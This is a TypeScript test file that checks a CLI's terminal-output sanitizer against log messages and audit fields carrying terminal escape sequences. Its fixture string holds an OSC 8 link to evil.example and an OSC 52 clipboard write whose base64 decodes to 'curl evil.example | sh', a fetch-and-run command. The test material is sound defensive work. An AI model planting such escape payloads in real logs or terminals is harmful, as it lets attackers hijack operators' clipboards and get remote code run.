// Item 14: a log line (or an audit reason, a job error, an issue title) carrying terminal escapes
// must not reach the operator's terminal. Driven through the CLI: `ingest --once` a log whose
// messages hold OSC 8 hyperlinks, an OSC 52 clipboard write, cursor moves, a screen clear, a
// carriage-return overprint and bidi overrides; then `incidents list`, `incidents show` (in-process
// entry and as a real child process) and `audit`, with stdout captured.
import { execFile } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import fc from "fast-check";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { writeAudit } from "../../src/agents/audit.ts";
import { main } from "../../src/cli/main.ts";
import { terminalSafe } from "../../src/cli/terminal.ts";
import type { CliIO } from "../../src/cli/types.ts";
import { sqliteTestDb, type TestDb } from "../helpers/db.ts";

const ESC = "\u001b";
const HOSTILE =
  `boom ${ESC}]8;;https://evil.example/${ESC}\\click here${ESC}]8;;${ESC}\\ ` +
  `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007` +
  `${ESC}[2J${ESC}[1;1H${ESC}[31mred${ESC}[0m ` +
  "all good\rFAKE \u009b2K\u202eevil\u202c \u0008\u0007";
const SHOWN = "boom click here red all goodFAKE \\u202eevil\\u202c ";

// Nothing a terminal acts on: no C0 but \n and \t, no DEL, no C1, no bidi override or isolate.
const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u200E\u200F\u202A-\u202E\u2066-\u2069]/;

function fakeIO(env: Record<string, string>) {
  const out: string[] = [];
  const err: string[] = [];
  const io: CliIO = {
    stdout: (s) => out.push(s),
    stderr: (s) => err.push(s),
    env,
    cwd: process.cwd(),
    isTTY: false,
  };
  return { io, out: () => out.join(""), err: () => err.join("") };
}

let t: TestDb;
let dir: string;
beforeEach(async () => {
  t = await sqliteTestDb();
  dir = mkdtempSync(join(tmpdir(), "steward-term-"));
});
afterEach(async () => {
  await t.cleanup();
  rmSync(dir, { recursive: true, force: true });
});

describe("terminalSafe", () => {
  it("removes escape sequences whole and shows invisible characters as \\u escapes", () => {
    expect(terminalSafe(HOSTILE)).toBe(SHOWN);
    expect(terminalSafe("a\r\nb\tc")).toBe("a\nb\tc");
    // An unterminated OSC hides nothing: only its opener goes.
    expect(terminalSafe(`x${ESC}]8;;http://evil rest`)).toBe("x8;;http://evil rest");
  });

  it("never lets a control character through (fast-check)", () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ESC,
        "[",
        "]",
        "\\",
        "\u0007",
        "\u009b",
        "\u009d",
        "\u009c",
        "\r",
        "\u202e",
        "P",
        "m",
        ";",
      ),
      fc.string({ maxLength: 4 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (parts) => {
        expect(terminalSafe(parts.join(""))).not.toMatch(CONTROL);
      }),
      { numRuns: 1000 },
    );
  });

  it("is linear on many unterminated strings", () => {
    const size = 200_000;
    const time = (s: string) => {
      const t0 = performance.now();
      terminalSafe(s);
      return performance.now() - t0;
    };
    const plain = time("a".repeat(size));
    const worst = time(`${ESC}]`.repeat(size / 2));
    expect(worst).toBeLessThan(Math.max(plain * 50, 250));
  });
});

describe("the CLI prints outside text without terminal control (item 14)", () => {
  it("incidents list/show, in-process and as a child process, and audit", async () => {
    const file = join(dir, "app.log");
    const record = {
      level: 50,
      time: 1_700_000_000_000,
      name: `api${ESC}[2J`,
      msg: "x",
      err: { type: "Error", message: HOSTILE, stack: `Error: ${HOSTILE}\n    at run (/srv/a.js:1:1)` },
    };
    writeFileSync(file, `${JSON.stringify(record)}\n`);
    const env = { DATABASE_URL: t.url };
    expect(await main(["ingest", file, "--once"], fakeIO(env).io)).toBe(0);

    const list = fakeIO(env);
    expect(await main(["incidents", "list"], list.io)).toBe(0);
    expect(list.out()).not.toMatch(CONTROL);
    expect(list.out()).toContain("boom click here");

    const show = fakeIO(env);
    expect(await main(["incidents", "show", "1"], show.io)).toBe(0);
    expect(show.out()).not.toMatch(CONTROL);
    expect(show.out()).toContain(`Error: ${SHOWN}\n    at run (/srv/a.js:1:1)`);

    // --json keeps the data: JSON escapes the controls, and \u202e is the same string once parsed.
    const json = fakeIO(env);
    expect(await main(["incidents", "show", "1", "--json"], json.io)).toBe(0);
    expect(json.out()).not.toMatch(CONTROL);
    expect(JSON.parse(json.out()).sample.message).toContain("\u202eevil\u202c");

    // The real binary, as an operator runs it.
    const child = await promisify(execFile)(process.execPath, ["src/cli.ts", "incidents", "show", "1"], {
      env: { ...process.env, DATABASE_URL: t.url, NODE_DISABLE_COMPILE_CACHE: "1" },
      cwd: join(import.meta.dirname, "../.."),
    });
    expect(child.stdout).not.toMatch(CONTROL);
    expect(child.stdout).toContain(`Error: ${SHOWN}`);

    await writeAudit(t.db, {
      at: 1_700_000_000_000,
      repo: "o/r",
      senderLogin: `mallory${ESC}]52;c;ZXZpbA==\u0007`,
      decision: "refuse",
      reason: HOSTILE,
    } as never);
    const audit = fakeIO(env);
    expect(await main(["audit"], audit.io)).toBe(0);
    expect(audit.out()).not.toMatch(CONTROL);
    expect(audit.out()).toContain("mallory");
  });
});
